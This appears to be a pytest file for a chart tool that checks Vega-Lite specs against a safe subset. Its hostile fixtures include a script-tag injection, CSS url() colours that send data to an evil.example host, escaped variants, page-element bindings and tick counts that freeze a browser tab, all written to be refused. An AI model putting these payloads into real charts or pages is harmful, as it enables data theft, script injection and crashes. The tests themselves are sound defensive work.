"""The chart tool's checks without a task, and how tool outputs are recognised as tables."""

from __future__ import annotations

from typing import Any

import pytest

from runs.presets.tools.chart import ChartError, checked_spec
from runs.traces.results import as_table

BAR = {
    "mark": "bar",
    "encoding": {
        "x": {"field": "city", "type": "nominal"},
        "y": {"field": "revenue", "type": "quantitative"},
    },
}
VALUES = [{"city": "Lisbon", "revenue": 10.5}, {"city": "Porto", "revenue": 7.0}]


def test_a_valid_inline_spec_comes_back_with_its_schema() -> None:
    spec = checked_spec({**BAR, "data": {"values": VALUES}})
    assert spec["data"]["values"] == VALUES and spec["$schema"].endswith(
        "vega-lite/v6.json"
    )


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        (
            {**BAR, "mark": "barz", "data": {"values": VALUES}},
            "mark: 'barz' is not one of",
        ),
        (
            {
                **BAR,
                "encoding": {
                    "x": {"field": "city", "type": "nominal", "aggregate": "summ"}
                },
                "data": {"values": VALUES},
            },
            "encoding.x.aggregate",
        ),
        (
            {**BAR, "data": {"url": "https://example.org/data.csv"}},
            "data.url: 'url' is not allowed: charts load nothing",
        ),
        (
            {
                **BAR,
                "mark": {"type": "image", "url": "http://evil.example/x.png"},
                "data": {"values": VALUES},
            },
            "mark.url: 'url' is not allowed",
        ),
        (BAR, "has no data"),
        ({}, "must be a Vega-Lite JSON object"),
    ],
)
def test_a_bad_spec_says_what_to_fix(spec: dict[str, Any], message: str) -> None:
    with pytest.raises(
        ChartError, match=message.replace("(", r"\(").replace(".", r"\.")
    ):
        checked_spec(spec)


HOSTILE_SPECS: list[tuple[str, dict[str, Any], str]] = [
    (
        "embed options in usermeta",
        {
            **BAR,
            "usermeta": {
                "embedOptions": {
                    "actions": True,
                    "i18n": {"SOURCE_ACTION": "Click me"},
                    "sourceHeader": "<script>window.__pwned = 1</script>",
                }
            },
        },
        "usermeta: 'usermeta' is not allowed",
    ),
    (
        "embed options deep in a layer",
        {"layer": [{**BAR, "usermeta": {"embedOptions": {"actions": True}}}]},
        "layer[0].usermeta: 'usermeta' is not allowed",
    ),
    (
        "data by URL in a lookup",
        {
            **BAR,
            "transform": [
                {
                    "lookup": "city",
                    "from": {"data": {"url": "http://evil.example/d.json"}, "key": "c"},
                }
            ],
        },
        "transform[0].from.data.url: 'url' is not allowed",
    ),
    (
        "a colour that fetches",
        {
            **BAR,
            "mark": {"type": "bar", "color": "url(http://evil.example/?data=secret)"},
        },
        "mark.color: 'url(http://evil.example/?data=secret)' would load a resource",
    ),
    (
        "a CSS-escaped fetching colour",
        {**BAR, "mark": {"type": "bar", "fill": "U\\72L (http://evil.example/)"}},
        "mark.fill:",
    ),
    (
        "a fetching colour in the data rows",
        {
            **BAR,
            "encoding": {
                **BAR["encoding"],
                "color": {"field": "c", "type": "nominal", "scale": None},
            },
            "data": {
                "values": [{"city": "x", "revenue": 1, "c": "url(//evil.example)"}]
            },
        },
        "data.values[0].c: 'url(//evil.example)' would load a resource",
    ),
    (
        "an image mark",
        {**BAR, "mark": "image"},
        "mark: the mark 'image' is not allowed",
    ),
    (
        "an href channel",
        {**BAR, "encoding": {**BAR["encoding"], "href": {"field": "city"}}},
        "encoding.href: 'href' is not allowed",
    ),
    (
        "an href on the mark",
        {**BAR, "mark": {"type": "bar", "href": "http://evil.example/"}},
        "mark.href: 'href' is not allowed",
    ),
    (
        "data parsed from text",
        {**BAR, "data": {"values": "city,revenue\\nx,1", "format": {"type": "csv"}}},
        "data.format: 'format' is not allowed in data",
    ),
    (
        "config that is not styling",
        {**BAR, "config": {"customFormatTypes": True, "axis": {"grid": False}}},
        "config.customFormatTypes: 'customFormatTypes' is not allowed in config",
    ),
    (
        "an input bound into the page",
        {
            **BAR,
            "params": [
                {"name": "p", "bind": {"input": "text", "element": "#composer"}}
            ],
        },
        "params[0].bind.element:",
    ),
    (
        "a background computed by an expression",
        {**BAR, "background": {"expr": "'u' + 'rl(http://evil.example/)'"}},
        "background: the background must be a colour name or code",
    ),
    (
        "an axis asking for 10^8 ticks (it froze the page, then crashed its tab)",
        {
            **BAR,
            "encoding": {
                **BAR["encoding"],
                "y": {
                    "field": "revenue",
                    "type": "quantitative",
                    "axis": {"tickCount": 1e8},
                },
            },
        },
        "encoding.y.axis.tickCount: 100000000.0 is more than a chart may ask for (at most 500)",
    ),
    (
        "a width whose default ticks are 10^7",
        {**BAR, "width": 400_000_000},
        "width: 400000000 is more than a chart may ask for (at most 10000)",
    ),
    (
        "ticks beyond counting, in the styling config",
        {**BAR, "config": {"axis": {"tickCount": 10_000}}},
        "config.axis.tickCount: 10000 is more than",
    ),
    (
        "an unknown top-level property",
        {**BAR, "datasets": {"d": VALUES}},
        "datasets: 'datasets' is not allowed in a chart here",
    ),
]


@pytest.mark.parametrize(
    ("spec", "message"),
    [(spec, message) for _, spec, message in HOSTILE_SPECS],
    ids=[name for name, _, _ in HOSTILE_SPECS],
)
def test_a_spec_outside_the_safe_subset_is_refused_saying_where(
    spec: dict[str, Any], message: str
) -> None:
    spec = {"data": {"values": VALUES}, **spec}
    with pytest.raises(ChartError, match="the chart uses what charts may not") as info:
        checked_spec(spec)
    assert message in str(info.value)


def test_the_safe_subset_keeps_what_analysts_draw() -> None:
    """Layers, transforms, tooltips, styling config, legend selections and URLs as plain text."""
    spec = {
        "title": {"text": "Revenue", "subtitle": "source: https://example.org/report"},
        "data": {"values": [{**row, "link": "https://example.org"} for row in VALUES]},
        "transform": [{"calculate": "datum.revenue * 2", "as": "double"}],
        "params": [{"name": "pick", "select": "point", "bind": "legend"}],
        "layer": [
            {**BAR, "mark": {"type": "bar", "tooltip": True, "color": "#4c78a8"}},
            {
                "mark": {"type": "text", "dy": -4},
                "encoding": {
                    "x": {"field": "city", "type": "nominal"},
                    "y": {"field": "double", "type": "quantitative"},
                    "text": {"field": "link"},
                    "tooltip": [{"field": "city"}, {"field": "link"}],
                },
            },
        ],
        "config": {
            "axis": {"labelFontSize": 12, "tickCount": 8},
            "bar": {"cornerRadius": 2},
        },
        "width": "container",
        "height": 300,
    }
    checked = checked_spec(spec)
    assert checked["layer"] == spec["layer"] and checked["config"] == spec["config"]


def test_a_spec_naming_another_schema_gets_ours() -> None:
    spec = checked_spec(
        {**BAR, "data": {"values": VALUES}, "$schema": "https://evil.example/x.json"}
    )
    assert spec["$schema"] == "https://vega.github.io/schema/vega-lite/v6.json"


def test_tables_are_recognised_in_both_shapes() -> None:
    assert as_table({"columns": ["a"], "rows": [[1], [2]]}).rows == [[1], [2]]  # type: ignore[union-attr]
    table = as_table([{"a": 1}, {"a": 2, "b": 3}])
    assert (
        table is not None
        and table.columns == ["a", "b"]
        and table.rows == [[1, None], [2, 3]]
    )
    assert (
        as_table({"value": 3}) is None
        and as_table([1, 2]) is None
        and as_table([]) is None
    )


def test_the_page_caps_the_same_counts_as_the_tool() -> None:
    """One list in two languages (static/js/render/chart_limits.js): a cap changed on one side
    only would draw on the page what the tool refuses, or the other way round."""
    import re
    from pathlib import Path

    from runs.presets.tools.chart_safety import COUNT_LIMITS

    source = (
        Path(__file__).resolve().parent.parent / "static/js/render/chart_limits.js"
    ).read_text()
    table = source[source.index("COUNT_LIMITS") : source.index("]);")]
    page = {name: int(cap) for name, cap in re.findall(r'\["(\w+)", (\d+)\]', table)}
    assert page == COUNT_LIMITS
